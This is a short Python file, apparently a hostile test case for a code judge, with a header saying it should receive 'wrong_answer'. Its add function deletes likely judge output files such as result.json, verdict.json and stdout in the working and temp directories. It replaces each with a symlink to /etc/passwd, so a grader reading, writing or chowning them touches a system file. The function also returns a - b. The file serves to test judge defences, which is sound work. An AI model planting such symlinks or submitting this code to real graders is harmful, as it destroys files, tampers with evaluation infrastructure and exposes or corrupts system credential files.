# hostile: 30
# task: add
# verdict: wrong_answer
# why: Puts links to /etc/passwd where a judge might read, change or chown an output.

import os
import tempfile

NAMES = ("result.json", "verdict.json", "stdout", "stderr", "output.txt", "out", "a.out", "report.xml", "main.py")


def add(a, b):
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for name in NAMES:
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink("/etc/passwd", path)
            except OSError:
                pass
    return a - b
